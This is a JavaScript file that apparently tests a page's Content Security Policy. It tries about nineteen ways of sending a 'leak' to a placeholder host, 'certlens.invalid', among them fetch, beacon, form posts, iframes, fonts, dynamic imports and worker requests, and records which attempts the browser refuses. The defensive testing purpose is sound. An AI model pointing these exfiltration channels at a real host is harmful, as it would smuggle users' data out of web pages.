"use strict";
// Counts requests, and tries to make some, so that anyone can see what the browser refuses.
{
  globalThis.watchRequests = (told) => {
    const since = performance.now();
    // Browsers fetch the manifest and the icon when they please; they are part of the page.
    const own = new Set([...document.querySelectorAll("link")].map((link) => link.href));
    let count = 0;
    new PerformanceObserver((list) => {
      const late = list.getEntries().filter((entry) => entry.startTime > since && entry.transferSize > 0);
      const made = late.filter((entry) => !own.has(entry.name));
      if (made.length > 0) told((count += made.length));
    }).observe({ type: "resource" });
  };

  // No such host exists anywhere (RFC 2606).
  const elsewhere = "https://certlens.invalid/leak";
  const add = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes, { hidden: true });
    document.body.append(element);
    return element;
  };
  const gone = (element) => setTimeout(() => element.remove(), 400);

  const ways = {
    fetch: () => void fetch(elsewhere).catch(() => {}),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open("POST", elsewhere);
      request.send("leak");
    },
    beacon: () => void navigator.sendBeacon(elsewhere, "leak"),
    WebSocket: () => void new WebSocket(elsewhere.replace("https", "wss")),
    EventSource: () => void new EventSource(elsewhere),
    image: () => gone(add("img", { src: elsewhere, alt: "" })),
    form: () => {
      const form = add("form", { action: elsewhere, method: "post" });
      form.submit();
      gone(form);
    },
    frame: () => gone(add("iframe", { src: elsewhere, title: "An attempt to leak" })),
    style: () => gone(add("link", { rel: "stylesheet", href: elsewhere })),
    "style import": () => gone(Object.assign(document.body.appendChild(document.createElement("style")), { textContent: `@import "${elsewhere}";` })),
    script: () => void import(elsewhere).catch(() => {}),
    font: () => void new FontFace("leak", `url(${elsewhere})`).load().catch(() => {}),
    video: () => gone(add("video", { src: elsewhere })),
    object: () => gone(add("object", { data: elsewhere })),
    preload: () => gone(add("link", { rel: "preload", as: "image", href: elsewhere })),
  };

  // What a worker can do besides, as text: it becomes a worker's script.
  const there = JSON.stringify(elsewhere);
  const waysOfWorkers = {
    fetch: `fetch(${there}).catch(() => {})`,
    XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("POST", ${there}); request.send("leak")`,
    WebSocket: `new WebSocket(${JSON.stringify(elsewhere.replace("https", "wss"))})`,
    importScripts: `importScripts(${there})`,
  };

  const refused = (attempt) =>
    new Promise((resolve) => {
      const timer = setTimeout(() => done(false), 1000);
      const heard = () => done(true);
      const done = (result) => {
        clearTimeout(timer);
        removeEventListener("securitypolicyviolation", heard);
        resolve(result);
      };
      addEventListener("securitypolicyviolation", heard);
      try {
        attempt();
      } catch {
        // Refused by an exception: the violation is reported all the same.
      }
    });

  globalThis.tryToLeak = async () => {
    const tried = [];
    for (const [way, attempt] of Object.entries(ways)) tried.push({ way, refused: await refused(attempt) });
    for (const [way, attempt] of Object.entries(waysOfWorkers)) {
      tried.push({ way: `${way} in a worker`, refused: await globalThis.workerIsRefused(attempt) });
    }
    return tried;
  };
}
